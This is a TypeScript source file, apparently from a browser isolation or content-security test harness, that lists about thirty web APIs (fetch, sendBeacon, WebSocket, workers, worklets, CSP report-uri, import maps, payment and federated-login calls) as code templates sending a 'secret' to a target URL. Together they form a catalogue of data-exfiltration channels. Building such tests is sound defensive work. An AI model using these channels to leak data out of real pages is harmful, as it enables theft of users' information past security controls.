// Requests that scripts and workers make, and other parts of the platform that make some.
import { element, text } from "./parts.js";
import type { Channel, Target } from "./sink.js";

const worker = (code: (to: Target) => string) => (to: Target) =>
  `new Worker(URL.createObjectURL(new Blob([${text(code(to))}])));`;

export const REQUESTS: Channel[] = [
  { name: "fetch", script: ({ url }) => `fetch(${text(`${url}/secret`)})` },
  {
    name: "fetch-keepalive",
    script: ({ url }) =>
      `fetch(${text(url)}, { method: "POST", body: "secret", keepalive: true, mode: "no-cors" })`,
  },
  {
    name: "xhr",
    script: ({ url }) =>
      `const x = new XMLHttpRequest(); x.open("GET", ${text(`${url}/secret`)}); x.send();`,
  },
  {
    name: "beacon",
    script: ({ url }) => `navigator.sendBeacon(${text(url)}, "secret")`,
  },
  {
    name: "fetch-later",
    script: ({ url }) =>
      `fetchLater(${text(`${url}/secret`)}, { activateAfter: 0 })`,
  },
  {
    name: "websocket",
    script: ({ url }) => `new WebSocket(${text(url.replace("http", "ws"))})`,
  },
  {
    name: "websocket-stream",
    script: ({ url }) =>
      `new WebSocketStream(${text(url.replace("http", "ws"))})`,
  },
  { name: "eventsource", script: ({ url }) => `new EventSource(${text(url)})` },
  {
    name: "webtransport",
    script: ({ url }) =>
      `new WebTransport(${text(`${url.replace("http", "https")}/secret`)})`,
  },
  {
    name: "import",
    script: ({ url }) => `import(${text(`${url}/secret.js`)})`,
  },
  {
    name: "import-map",
    content: ({ url }) =>
      `<script type="importmap">{"imports":{"x":"${url}/secret.js"}}</script>`,
    script: () => `import("x")`,
  },
  {
    name: "script",
    ...element("script", ({ url }) => ({ src: `${url}/secret.js` })),
  },
  {
    name: "svg-script",
    content: ({ url }) =>
      `<svg><script href="${url}/secret.js"></script></svg>`,
  },
  {
    name: "worker-fetch",
    script: worker(({ url }) => `fetch(${text(`${url}/secret`)})`),
  },
  {
    name: "worker-import",
    script: worker(({ url }) => `importScripts(${text(`${url}/secret.js`)})`),
  },
  {
    name: "worker-websocket",
    script: worker(
      ({ url }) => `new WebSocket(${text(url.replace("http", "ws"))})`,
    ),
  },
  {
    name: "worker-webtransport",
    script: worker(
      ({ url }) => `new WebTransport(${text(url.replace("http", "https"))})`,
    ),
  },
  { name: "worker", script: ({ url }) => `new Worker(${text(`${url}/s.js`)})` },
  {
    name: "shared-worker",
    script: ({ url }) =>
      `new SharedWorker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(${text(url)}) + ")"])))`,
  },
  {
    name: "service-worker",
    script: ({ url }) =>
      `navigator.serviceWorker.register(${text(`${url}/s.js`)})`,
  },
  {
    name: "worklet",
    script: ({ url }) => `CSS.paintWorklet.addModule(${text(`${url}/s.js`)})`,
  },
  {
    name: "audio-worklet",
    script: ({ url }) =>
      `new AudioContext().audioWorklet.addModule(${text(`${url}/s.js`)})`,
  },
  {
    name: "csp-report",
    content: ({ url }) =>
      `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${url}/secret"><img src="/x" alt="">`,
  },
  {
    name: "protocol-handler",
    script: ({ url }) =>
      `navigator.registerProtocolHandler("web+secret", ${text(`${url}/%s`)})`,
  },
  {
    name: "federated-login",
    script: ({ url }) =>
      `navigator.credentials.get({ identity: { providers: [{ configURL: ${text(`${url}/secret.json`)}, clientId: "secret" }] } })`,
  },
  {
    name: "payment",
    script: ({ url }) => `
      const total = { label: "x", amount: { currency: "USD", value: "1" } };
      new PaymentRequest([{ supportedMethods: ${text(url.replace("http:", "https:"))} }], { total }).canMakePayment()`,
  },
  {
    name: "background-fetch",
    script: ({ url }) =>
      `(await navigator.serviceWorker.ready).backgroundFetch.fetch("x", ${text(`${url}/secret`)})`,
  },
  {
    name: "shared-storage",
    script: ({ url }) =>
      `sharedStorage.createWorklet(${text(`${url}/secret.js`)})`,
  },
];
